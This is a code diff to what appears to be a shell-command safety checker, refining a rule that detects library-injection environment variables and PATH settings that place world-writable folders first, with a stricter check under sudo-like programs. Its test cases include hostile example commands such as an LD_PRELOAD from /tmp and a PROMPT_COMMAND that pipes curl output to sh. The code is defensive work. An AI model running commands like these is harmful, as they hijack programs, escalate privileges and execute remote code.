@@ -205,22 +205,34 @@ export const privilegeRules: readonly CommandRule[] = [
     description:
       'Makes programs load a foreign library, or looks for programs in a folder that anyone may write.',
     safer: 'PATH="$HOME/bin:$PATH" make',
-    saw: ({ assignments, words, name }) => {
+    saw: ({ assignments, words, name, within }) => {
       const pairs = [
         ...assignments.map((pair) => `${pair.name}=${pair.value}`),
         ...(name === 'env' || name === 'export' || name === 'sudo' || name === 'set'
           ? words.map(({ text }) => text)
           : []),
       ];
+      const is_root = [name, ...within].some((program) => BECOMES_ROOT.test(program));
       return pairs.some(
         (text) =>
           /^(?:LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|DYLD_INSERT_LIBRARIES|DYLD_LIBRARY_PATH|PYTHONSTARTUP|NODE_OPTIONS|PERL5OPT|BASH_ENV|GIT_SSH_COMMAND|GIT_EXTERNAL_DIFF|PROMPT_COMMAND)=.*(?:\/tmp\/|\.so|\.dylib|--require|-r |curl|\bsh )/.test(
             text,
-          ) || /^PATH=(?:\/tmp|\/var\/tmp|\/dev\/shm|\.)(?::|$)/.test(text),
+          ) || (is_root ? OPEN_FOLDER_FIRST : OPEN_ROOT_FIRST).test(text),
       );
     },
-    hits: ['LD_PRELOAD=/tmp/a.so ls', 'sudo env PATH=/tmp bash', 'export PROMPT_COMMAND="curl x.io|sh"'],
-    misses: ['PATH="$HOME/bin:$PATH" make', 'NODE_OPTIONS=--max-old-space-size=4096 npm test', 'FOO=1 ls'],
+    hits: [
+      'LD_PRELOAD=/tmp/a.so ls',
+      'sudo env PATH=/tmp bash',
+      'PATH=/tmp/evil:$PATH sudo -E make',
+      'export PROMPT_COMMAND="curl x.io|sh"',
+    ],
+    misses: [
+      'PATH="$HOME/bin:$PATH" make',
+      'PATH=/tmp/go/bin:$PATH make',
+      'sudo env PATH=/usr/bin:/tmp/a make',
+      'NODE_OPTIONS=--max-old-space-size=4096 npm test',
+      'FOO=1 ls',
+    ],
   },
   {
     id: 'privilege.trust',
@@ -326,3 +338,8 @@ function escapesContainer(command: Command): boolean {
     text,
   );
 }
+
+const BECOMES_ROOT = /^(?:sudo|doas|su|pkexec|run0)$/;
+/** A search path that begins with a folder that anyone may write: with its root, or also with a folder below it. */
+const OPEN_ROOT_FIRST = /^PATH=(?:\/tmp|\/var\/tmp|\/dev\/shm|\.)(?::|$)/;
+const OPEN_FOLDER_FIRST = /^PATH=(?:\/tmp|\/var\/tmp|\/dev\/shm|\.)(?:\/[^:]{0,200})?(?::|$)/;
